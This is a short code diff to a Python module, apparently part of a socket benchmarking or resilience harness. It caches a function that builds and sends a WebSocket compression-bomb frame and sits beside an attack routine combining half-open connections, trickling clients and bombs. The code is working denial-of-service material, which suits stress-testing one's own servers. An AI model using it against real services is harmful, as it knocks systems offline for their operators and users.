@@ -12,6 +12,7 @@ import struct
 import sys
 import zlib
 from contextlib import suppress
+from functools import cache
 from typing import Any, Final
 
 from flyingfinish.bench_sockets import LONG, MASKED, TEXT, Place, dialled
@@ -40,12 +41,18 @@ def bomb(place: Place, number: int) -> socket.socket:
     answer = b""
     while b"\r\n\r\n" not in answer:
         answer += sock.recv(READ_BYTES)
+    sock.sendall(bomb_message())
+    return sock
+
+
+@cache
+def bomb_message() -> bytes:
+    """Returns what each of them sends; made once, or the making would be most of the attack."""
     stream = zlib.compressobj(9, zlib.DEFLATED, RAW_DEFLATE)
     packed = stream.compress(bytes(BOMB_BYTES)) + stream.flush(zlib.Z_SYNC_FLUSH)
     packed = packed.removesuffix(EMPTY_BLOCK)
     head = struct.pack("!BBH", TEXT | COMPRESSED, MASKED | LONG, len(packed))
-    sock.sendall(head + bytes(4) + packed)
-    return sock
+    return head + bytes(4) + packed
 
 
 def attack(place: Place, half_opens: int, tricklers: int, bombs: int) -> dict[str, Any]:
